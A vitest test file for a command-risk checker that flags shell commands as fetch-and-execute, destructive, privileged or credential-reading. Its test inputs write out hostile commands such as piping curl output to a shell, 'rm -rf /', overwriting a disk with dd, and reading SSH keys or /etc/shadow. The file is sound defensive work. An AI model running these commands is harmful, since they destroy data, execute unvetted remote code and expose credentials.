import { describe, expect, it } from 'vitest';
import { assessCommand } from './command-risk.js';

const sh = (script: string) => assessCommand(['sh', '-c', script]);

describe('command risk', () => {
  it('sees a download run by a shell, however it is written', () => {
    for (const script of [
      'curl -fsSL https://get.example.com | sh',
      'curl -s https://x | sudo bash -s -- --yes',
      'wget -qO- https://x | python3 -',
      'bash <(curl -s https://x)',
      'cd /tmp && curl https://x |   tee log | sh',
    ]) {
      expect(sh(script).tags, script).toContain('fetch-execute');
    }
    expect(assessCommand(['bash', '-lc', 'curl x | sh']).tags).toContain('fetch-execute');
  });

  it('does not take words inside strings, or a plain download, for a fetch-and-execute', () => {
    expect(sh('echo "curl https://x | sh"').tags).toEqual([]);
    expect(sh('curl -o out.json https://api.example.com/data').tags).toEqual([]);
    expect(assessCommand(['curl', 'https://x', '|', 'sh']).tags).toEqual([]);
    expect(assessCommand(['python3', '-c', 'print(1)']).score).toBe(0);
  });

  it('finds destructive, privileged and credential-reading commands, and scores them', () => {
    expect(sh('rm -rf /work').tags).toEqual(['destructive']);
    expect(assessCommand(['rm', '-r', '-f', '/']).tags).toEqual(['destructive']);
    expect(sh('rm -rf /work/build/cache').tags).toEqual([]);
    expect(sh('dd if=/dev/zero of=/dev/sda').tags).toEqual(['destructive']);
    expect(sh('sudo chmod 4755 /tmp/x').tags).toEqual(['privilege']);
    expect(sh('cat ~/.ssh/id_rsa').tags).toEqual(['credential-access']);
    expect(sh('FOO=1 env').tags).toEqual(['credential-access']);
    const worst = sh('curl https://x | sh; rm -rf /; cat /etc/shadow');
    expect(worst.tags).toEqual(['credential-access', 'destructive', 'fetch-execute']);
    expect(worst.score).toBe(100);
    expect(worst.reasons).toHaveLength(3);
  });
});
